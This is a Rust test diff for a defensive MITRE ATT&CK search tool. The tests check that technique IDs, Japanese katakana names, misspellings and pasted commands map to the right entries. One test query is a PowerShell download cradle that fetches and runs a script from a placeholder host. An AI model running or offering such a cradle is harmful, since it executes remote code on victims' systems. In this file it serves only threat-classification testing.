@@ -477,3 +477,80 @@ fn every_message_kb_says_has_english_and_japanese() {
         .collect();
     assert!(unknown.is_empty(), "add to kb/ja/cli.toml: {unknown:?}");
 }
+
+#[test]
+fn a_sub_technique_is_found_however_it_is_written() {
+    // The analyst pastes a URL of attack.mitre.org, a Sigma tag or a report's short form.
+    let kb = open();
+    for (q, id) in [
+        (
+            "https://attack.mitre.org/techniques/T1059/001/",
+            "T1059.001",
+        ),
+        ("T1059/001", "T1059.001"),
+        ("T1059-001", "T1059.001"),
+        ("attack.t1003.001", "T1003.001"),
+        ("T1003.1", "T1003.001"),
+        ("T1059 .001", "T1059.001"),
+    ] {
+        let hits = ids(&search(&kb, q));
+        assert_eq!(hits[0], id, "{q}: {hits:?}");
+    }
+    let hits = ids(&search(&kb, "T1566.001;T1204.002"));
+    assert!(hits[..2].contains(&"T1566.001".to_string()), "{hits:?}");
+    assert!(hits[..2].contains(&"T1204.002".to_string()), "{hits:?}");
+}
+
+#[test]
+fn katakana_names_match_with_or_without_their_dots_and_spaces() {
+    // パス・ザ・ハッシュ is typed パスザハッシュ; ドライブバイ・コンプロマイズ with a space.
+    let kb = open();
+    for (q, id) in [
+        ("パスザハッシュ", "T1550.002"),
+        ("パスザチケット", "T1550.003"),
+        ("ドライブバイ コンプロマイズ", "T1189"),
+    ] {
+        let hits = ids(&search(&kb, q));
+        assert_eq!(hits[0], id, "{q}: {hits:?}");
+    }
+}
+
+#[test]
+fn misspelt_words_whose_stem_exists_still_find_the_name() {
+    // persistance stems to persist, which the index knows: it is still a typo of Persistence.
+    let kb = open();
+    for (q, id) in [
+        ("persistance", "TA0003"),
+        ("exfilration", "TA0010"),
+        ("netstatt", "netstat.exe"),
+        ("regsvr", "regsvr32.exe"),
+        ("apt 29", "G0016"),
+        ("APT-28", "G0007"),
+    ] {
+        let hits = ids(&search(&kb, q));
+        assert!(hits[..2].contains(&id.to_string()), "{q}: {hits:?}");
+    }
+    // A word of a name is no typo: Sandworm is Sandworm Team, not Seedworm.
+    assert_eq!(ids(&search(&kb, "Sandworm"))[0], "G0034");
+}
+
+#[test]
+fn pasted_powershell_code_is_read_like_a_command_line() {
+    // `Net.WebClient` in a download cradle is not net.exe.
+    let kb = open();
+    let hits = ids(&search(
+        &kb,
+        "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')",
+    ));
+    assert_eq!(hits[0], "T1059.001", "{hits:?}");
+    assert!(hits[..3].contains(&"T1105".to_string()), "{hits:?}");
+}
+
+#[test]
+fn mde_japanese_tactic_names_lead_to_the_enterprise_tactic() {
+    // search 横方向の移動 (MDE's Lateral Movement) → TA0008 first.
+    let kb = open();
+    for (q, id) in [("横方向の移動", "TA0008"), ("常設", "TA0003")] {
+        assert_eq!(ids(&search(&kb, q))[0], id, "{q}");
+    }
+}
